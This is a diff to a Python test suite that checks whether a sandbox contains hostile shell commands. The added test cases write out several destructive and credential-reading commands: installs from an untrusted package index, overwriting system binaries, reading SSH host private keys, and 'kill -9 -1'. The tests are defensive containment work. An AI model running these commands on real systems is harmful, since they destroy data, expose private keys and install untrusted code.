@@ -91,6 +91,13 @@ HOSTILE: list[tuple[str, str]] = [
     ("write-oas-libs", "touch /opt/toolemu/oas/site/evil.py; echo x > /opt/toolemu/oas/bin/sudo; rm -rf /opt/toolemu"),
     ("pip-install", "pip install --index-url http://1.1.1.1/simple evil; python3 -m pip install evil"),
     ("sudo-shell", "sudo -s touch /usr/evil; sudo -i id; sudo chown 0 /etc/hosts"),
+    (
+        "apt-install-and-write",
+        "apt-get install -y openssh-server php-cli cron; echo x > /usr/bin/php; touch /usr/sbin/evil; "
+        "cat /opt/toolemu/oas/apt/*/root/etc/ssh/ssh_host_* /etc/ssh/ssh_host_*_key 2>/dev/null | grep -c PRIVATE",
+    ),
+    ("pip-install-offline", "pip install flask bcrypt; pip install --index-url http://1.1.1.1/simple numpy==1.0"),
+    ("kill-interpreter-host", "python3 -c 'import os; print(os.getppid())'; kill -9 -1; ps -e | wc -l"),
 ]
 
 
@@ -171,7 +178,7 @@ def test_hostile_command_is_contained(
     assert all(f.size <= 16 * 1024 * 1024 for f in state.files)
     assert [c.command for c in state.commands] == [cmd, "echo alive"]
     sandbox.reset(env)
-    assert sandbox.run_shell("id -u; cat todo.txt").output == f"{PROFILES[profile]}\nwater plants\n"
+    assert sandbox.run_shell("id -u; cat /workspace/todo.txt").output == f"{PROFILES[profile]}\nwater plants\n"
 
 
 def test_hostile_suite_is_large_enough() -> None:
